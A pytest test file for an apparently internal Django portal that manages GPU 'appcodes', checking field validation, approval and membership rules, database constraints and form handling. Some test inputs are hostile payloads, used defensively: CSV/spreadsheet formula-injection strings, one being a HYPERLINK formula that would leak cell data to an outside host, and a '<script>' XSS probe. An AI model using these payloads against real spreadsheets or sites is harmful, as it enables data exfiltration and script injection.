"""Appcodes: what the form, the action and the database accept and refuse, and the life of a request."""

from __future__ import annotations

from decimal import Decimal
from typing import Any

import pytest
from django.core.exceptions import PermissionDenied
from django.db import IntegrityError, connection, transaction
from django.http import Http404
from django.test import Client
from pydantic import ValidationError

from portal import extension_points
from portal.actions import appcodes, members, requests
from portal.errors import Conflict, Invalid
from portal.manifests import mistakes
from portal.manifests.appcode import Answered, AppcodeManifest, Granted, Quota
from portal.models import Appcode, Event, Membership, User

pytestmark = pytest.mark.django_db


def manifest(**changes: Any) -> AppcodeManifest:
    code = changes.pop("code", "npe_ix_test_gpu")
    spec = {"orgNode": "qunarcorp.ops", "owners": ["alice"], "emails": ["alice@example.com"]} | changes
    return AppcodeManifest.model_validate({"kind": "appcode", "metadata": {"name": code}, "spec": spec})


BAD = {
    "code too short": ({"code": "ab"}, "metadata.name"),
    "code of 64": ({"code": "a" * 64}, "metadata.name"),
    "code in capitals": ({"code": "Ops"}, "metadata.name"),
    "code from a digit": ({"code": "1ops"}, "metadata.name"),
    "code with a line end": ({"code": "ops\nx"}, "metadata.name"),
    "no owner": ({"owners": []}, "spec.owners"),
    "five owners": ({"owners": ["a", "b", "c", "d", "e"]}, "spec.owners"),
    "an owner twice": ({"owners": ["alice", "alice"]}, "spec.owners"),
    "no address": ({"emails": []}, "spec.emails"),
    "eleven addresses": ({"emails": [f"p{n}@example.com" for n in range(11)]}, "spec.emails"),
    "an address without domain": ({"emails": ["alice@localhost"]}, "spec.emails.0"),
    "an address twice": ({"emails": ["a@example.com", "A@example.com"]}, "spec.emails"),
    "remark of 101": ({"remark": "x" * 101}, "spec.remark"),
    "name of 101": ({"name": "x" * 101}, "spec.name"),
    "a formula": ({"name": '=HYPERLINK("http://example.com/?"&A2,"pay")'}, "spec.name"),
    "a formula after a tab": ({"name": "\t=1"}, "spec.name"),
    "a formula of wide characters": ({"name": "＝1"}, "spec.name"),
    "a name that begins with +": ({"name": "+1"}, "spec.name"),
    "a name that begins with -": ({"name": "-1"}, "spec.name"),
    "a name that begins with @": ({"name": "@SUM(A1)"}, "spec.name"),
    "a name with a control character": ({"name": "one\x07"}, "spec.name"),
    "two lines of remark": ({"remark": "one\ntwo"}, "spec.remark"),
    "another resource type": ({"resourceType": "host"}, "spec.resourceType"),
    "no org node": ({"orgNode": ""}, "spec.orgNode"),
    "an odd org node": ({"orgNode": "a..b"}, "spec.orgNode"),
    "a quota below nothing": ({"quota": {"gpus": -1}}, "spec.quota.gpus"),
    "a storage quota below nothing": ({"quota": {"storage": -1}}, "spec.quota.storage"),
    "a budget of nothing": ({"quota": {"budget": "0"}}, "spec.quota.budget"),
    "a budget of half a cent": ({"quota": {"budget": "0.005"}}, "spec.quota.budget"),
    "a budget that is none": ({"quota": {"budget": "much"}}, "spec.quota.budget"),
    "a budget of binary": ({"quota": {"budget": 1.1}}, "spec.quota.budget"),
    "a day that is none": ({"expires": "2027-02-30"}, "spec.expires"),
    "an unknown field": ({"colour": "red"}, "spec.colour"),
}


@pytest.mark.parametrize("case", BAD)
def test_a_manifest_refuses(case: str) -> None:
    changes, path = BAD[case]
    with pytest.raises(ValidationError) as caught:
        manifest(**changes)
    assert [".".join(each.path) for each in mistakes(caught.value)] == [path]


def test_a_manifest_accepts_the_limits_themselves() -> None:
    four = ["alice", "bob", "victor", "mallory"]
    ten = [f"p{n}@example.com" for n in range(10)]
    assert manifest(code="a" * 63, owners=four, emails=ten, remark="x" * 100).spec.remark == "x" * 100
    assert manifest(code="abc", remark="  spaces go  ").spec.remark == "spaces go"


def test_a_status_that_comes_back_is_ignored() -> None:
    assert (
        AppcodeManifest.model_validate(manifest().model_dump(by_alias=True) | {"status": {"state": "active"}})
        == manifest()
    )


def test_a_request_waits_for_an_administrator(people: Any) -> None:
    appcode = appcodes.request_appcode(manifest(), acting_user=people.alice)
    assert (appcode.state, appcode.name, appcode.gpu_quota) == ("requested", "npe_ix_test_gpu", 8)
    assert [(each.user.username, each.role) for each in appcode.memberships.all()] == [("alice", "owner")]
    assert Event.objects.filter(verb="appcode.requested", appcode="npe_ix_test_gpu", actor=people.alice).count() == 1
    with pytest.raises(Http404):
        requests.approve(appcode, Granted(revision=1), acting_user=people.alice)
    given = requests.approve(appcode, Granted(revision=1, quota=Quota(gpus=2)), acting_user=people.root)
    assert (given.state, given.gpu_quota) == ("active", 2)
    with pytest.raises(Conflict, match="approved already by root"):
        requests.approve(appcode, Granted(revision=1), acting_user=people.root)


def test_an_administrators_own_request_is_active_at_once(people: Any) -> None:
    assert appcodes.request_appcode(manifest(quota={"gpus": 100}), acting_user=people.root).state == "active"


@pytest.mark.parametrize(
    ("changes", "path", "word"),
    [
        ({"code": "flight-demo"}, "metadata.name", "taken"),
        ({"orgNode": "qunarcorp.moon"}, "spec.orgNode", "no org node"),
        ({"owners": ["alice", "nobody"]}, "spec.owners", "nobody called “nobody”"),
        ({"owners": ["bob"]}, "spec.owners", "Name yourself"),
        ({"expires": "2020-01-01"}, "spec.expires", "Choose a day from"),
    ],
)
def test_an_action_refuses_what_only_the_database_knows(
    people: Any, changes: dict[str, Any], path: str, word: str
) -> None:
    with pytest.raises(Invalid) as caught:
        appcodes.request_appcode(manifest(**changes), acting_user=people.alice)
    assert [".".join(error.path) for error in caught.value.errors] == [path]
    assert word in caught.value.errors[0].message
    assert Appcode.objects.count() == 2
    assert Event.objects.count() == 0


def test_a_deactivated_person_cannot_become_an_owner(people: Any) -> None:
    User.objects.filter(username="bob").update(is_active=False)
    with pytest.raises(Invalid, match="nobody called “bob”"):
        appcodes.request_appcode(manifest(owners=["alice", "bob"]), acting_user=people.alice)


def test_a_refused_request_is_changed_and_sent_again(people: Any) -> None:
    appcode = appcodes.request_appcode(manifest(), acting_user=people.alice)
    with pytest.raises(Invalid):
        requests.refuse(appcode, Answered(revision=1, note="  "), acting_user=people.root)
    requests.refuse(appcode, Answered(revision=1, note="Say what it is for."), acting_user=people.root)
    refused = Appcode.objects.get(pk=appcode.pk)
    assert (refused.standing, refused.asked and refused.asked.note) == ("refused", "Say what it is for.")
    again = appcodes.change_appcode(refused, manifest(remark="Image search"), acting_user=people.alice)
    assert (again.standing, again.asked and again.asked.note, again.remark) == ("requested", "", "Image search")


def test_disabling_and_enabling(people: Any) -> None:
    assert appcodes.disable_appcode(people.ops, "Nobody pays.", acting_user=people.root).state == "disabled"
    with pytest.raises(Conflict):
        appcodes.disable_appcode(people.ops, "again", acting_user=people.root)
    assert appcodes.enable_appcode(people.ops, acting_user=people.root).note == ""
    with pytest.raises(Conflict):
        appcodes.enable_appcode(people.ops, acting_user=people.root)


def test_changing_everything_that_an_owner_may(people: Any) -> None:
    wanted = manifest(code="ops-demo", name="Operations", owners=["bob"], emails=["new@example.com"], remark="ours")
    changed = appcodes.change_appcode(people.ops, wanted, acting_user=people.alice)
    assert (changed.name, changed.emails, changed.remark) == ("Operations", ["new@example.com"], "ours")
    roles = dict(changed.memberships.values_list("user__username", "role"))
    assert roles == {"alice": "developer", "bob": "owner", "victor": "viewer"}
    with pytest.raises(PermissionDenied):
        appcodes.change_appcode(people.ops, wanted, acting_user=people.alice)


def test_code_org_node_and_quota_are_not_an_owners_to_change(people: Any) -> None:
    with pytest.raises(Invalid) as caught:
        appcodes.change_appcode(
            people.ops, manifest(orgNode="qunarcorp.flight", quota={"gpus": 100}), acting_user=people.alice
        )
    assert [".".join(error.path) for error in caught.value.errors] == [
        "metadata.name", "spec.orgNode", "spec.quota.gpus",
    ]  # fmt: skip
    moved = manifest(code="ops-demo", orgNode="qunarcorp.flight", quota={"gpus": 100})
    assert appcodes.change_appcode(people.ops, moved, acting_user=people.root).gpu_quota == 100


# Members


def test_an_appcode_keeps_an_owner(people: Any) -> None:
    for role in ("developer", "viewer", None):
        with pytest.raises(Invalid, match="needs an owner"):
            members.set_member(people.ops, "alice", role, acting_user=people.alice)
    assert people.ops.memberships.get(user=people.alice).role == "owner"


def test_there_is_no_fifth_owner(people: Any) -> None:
    for name in ("bob", "victor", "mallory"):
        members.set_member(people.ops, name, "owner", acting_user=people.alice)
    with pytest.raises(Invalid, match="4 owners at most"):
        members.set_member(people.ops, "root", "owner", acting_user=people.alice)
    assert people.ops.memberships.count() == 4


def test_members_come_go_and_change(people: Any) -> None:
    members.set_member(people.ops, "mallory", "viewer", acting_user=people.alice)
    members.set_member(people.ops, "mallory", "developer", acting_user=people.alice)
    members.set_member(people.ops, "bob", None, acting_user=people.alice)
    roles = dict(people.ops.memberships.values_list("user__username", "role"))
    assert roles == {"alice": "owner", "victor": "viewer", "mallory": "developer"}
    with pytest.raises(Conflict, match="not a member"):
        members.set_member(people.ops, "bob", None, acting_user=people.alice)
    said = list(Event.objects.filter(verb="appcode.members").values_list("message", flat=True))
    assert said == ["bob no longer developer", "mallory developer", "mallory viewer"]


def test_a_wrong_role_or_person_is_refused(people: Any) -> None:
    with pytest.raises(Invalid, match="Choose owner"):
        members.set_member(people.ops, "mallory", "king", acting_user=people.alice)
    with pytest.raises(Invalid, match="nobody called"):
        members.set_member(people.ops, "nobody", "viewer", acting_user=people.alice)
    with pytest.raises(PermissionDenied):
        members.set_member(people.ops, "mallory", "viewer", acting_user=people.bob)


# The database enforces the same limits for every writer


def check_now() -> None:
    with connection.cursor() as cursor:
        cursor.execute("SET CONSTRAINTS ALL IMMEDIATE")


@pytest.mark.parametrize(
    "changes",
    [
        {"emails": []},
        {"emails": [f"p{n}@example.com" for n in range(11)]},
        {"resource_type": "host"},
        {"state": "gone"},
        {"code": "Ops Demo"},
        {"gpu_quota": 100_001},
    ],
)
def test_the_database_refuses(people: Any, changes: dict[str, Any]) -> None:
    with pytest.raises(IntegrityError), transaction.atomic():
        Appcode.objects.filter(pk=people.ops.pk).update(**changes)


def test_the_database_refuses_a_long_remark(people: Any) -> None:
    from django.db import DataError

    with pytest.raises(DataError), transaction.atomic():
        Appcode.objects.filter(pk=people.ops.pk).update(remark="x" * 101)


def test_the_database_keeps_one_to_four_owners(people: Any) -> None:
    with pytest.raises(IntegrityError, match="1 to 4 owners"), transaction.atomic():
        people.ops.memberships.filter(role="owner").delete()
        check_now()
    with pytest.raises(IntegrityError, match="1 to 4 owners"), transaction.atomic():
        people.ops.memberships.update(role="owner")
        for user in (people.mallory, people.root):
            Membership.objects.create(user=user, appcode=people.ops, role="owner")
        check_now()
    with pytest.raises(IntegrityError, match="1 to 4 owners"), transaction.atomic():
        Appcode.objects.create(code="nobodys", org_node=people.ops.org_node, emails=["a@example.com"])
        check_now()


def test_nobody_rewrites_the_log(people: Any) -> None:
    appcodes.disable_appcode(people.ops, "over", acting_user=people.root)
    with pytest.raises(IntegrityError, match="append-only"), transaction.atomic():
        Event.objects.update(message="it was mallory")
    with pytest.raises(IntegrityError, match="append-only"), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("DELETE FROM portal_event")


# The form shows the same messages beside its fields and keeps all input


def typed(**changes: str) -> dict[str, str]:
    return {
        "org_node": "qunarcorp.ops",
        "code": "npe_ix_test_gpu",
        "name": "",
        "owners": "alice, bob",
        "emails": "a@example.com\nb@example.com",
        "remark": "Image search",
        "resource_type": "gpu-cloud",
        "gpus": "8",
        "storage": "1024",
        "budget": "",
        "expires": "",
    } | changes


def test_the_form_sends_a_request(client: Client, people: Any) -> None:
    client.force_login(people.alice)
    answer = client.post("/appcodes/new", typed(), follow=True)
    assert answer.redirect_chain == [("/appcodes/npe_ix_test_gpu", 302)]
    appcode = Appcode.objects.get(code="npe_ix_test_gpu")
    assert appcode.emails == ["a@example.com", "b@example.com"]
    assert sorted(each.user.username for each in appcode.memberships.all()) == ["alice", "bob"]
    assert "requested; an administrator will look at it" in answer.content.decode()


def test_the_form_shows_all_wrong_fields_and_keeps_what_was_typed(client: Client, people: Any) -> None:
    client.force_login(people.alice)
    wrong = typed(code="No good", owners="a,b,c,d,e", emails="nobody", remark="r" * 101, org_node="qunarcorp.ops")
    answer = client.post("/appcodes/new", wrong)
    form = answer.context["form"]
    assert set(form.errors) == {"code", "owners", "emails", "remark"}
    page = answer.content.decode()
    for text in ("No good", "a,b,c,d,e", "r" * 101, 'value="qunarcorp.ops" selected'):
        assert text in page
    assert 'aria-invalid="true"' in page
    assert 'aria-describedby="id_code_helptext id_code_error"' in page
    assert Appcode.objects.count() == 2


@pytest.mark.parametrize("field", ["code", "owners", "emails", "remark", "name", "org_node"])
def test_a_nul_character_is_an_error_at_its_field(client: Client, people: Any, field: str) -> None:
    client.force_login(people.alice)
    answer = client.post("/appcodes/new", typed(**{field: "a\0b"}))
    assert answer.status_code == 200
    assert field in answer.context["form"].errors


def test_of_a_living_appcode_only_an_administrators_form_has_a_quota(client: Client, people: Any) -> None:
    client.force_login(people.alice)
    assert 'name="gpus"' in client.get("/appcodes/new").content.decode()
    assert 'name="gpus"' not in client.get("/appcodes/ops-demo/change").content.decode()
    client.post("/appcodes/ops-demo/change", typed(gpus="500", owners="alice"))
    assert Appcode.objects.get(code="ops-demo").gpu_quota == 8
    client.force_login(people.root)
    answer = client.post("/appcodes/ops-demo/change", typed(gpus="many", expires="soon", budget="x", owners="alice"))
    assert set(answer.context["form"].errors) == {"gpus", "expires", "budget"}
    client.post("/appcodes/ops-demo/change", typed(gpus="500", budget="12.50", owners="alice"))
    assert Appcode.objects.get(code="ops-demo").gpu_quota == 500
    assert extension_points.budgets_of([people.ops.pk]) == {people.ops.pk: Decimal("12.50")}


def test_the_form_cannot_change_the_code(client: Client, people: Any) -> None:
    client.force_login(people.alice)
    client.post("/appcodes/ops-demo/change", typed(code="renamed", owners="alice", name="Renamed"))
    assert Appcode.objects.get(pk=people.ops.pk).code == "ops-demo"
    assert Appcode.objects.get(pk=people.ops.pk).name == "Renamed"


def test_a_member_who_cannot_be_added_is_named_beside_the_field(client: Client, people: Any) -> None:
    client.force_login(people.alice)
    answer = client.post("/appcodes/ops-demo/members", {"username": "nobody", "role": "viewer", "from": "form"})
    assert answer.context["member_form"].errors == {"username": ["There is nobody called “nobody”."]}
    assert 'value="nobody"' in answer.content.decode()


def test_text_of_people_is_never_markup(client: Client, people: Any) -> None:
    evil = "<script>alert(1)</script>"
    client.force_login(people.alice)
    client.post("/appcodes/ops-demo/change", typed(name=evil, remark=evil, owners="alice"))
    for path in ("/appcodes", "/appcodes/ops-demo", "/appcodes/ops-demo/change", f"/search?q={evil}"):
        page = client.get(path).content.decode()
        assert evil not in page
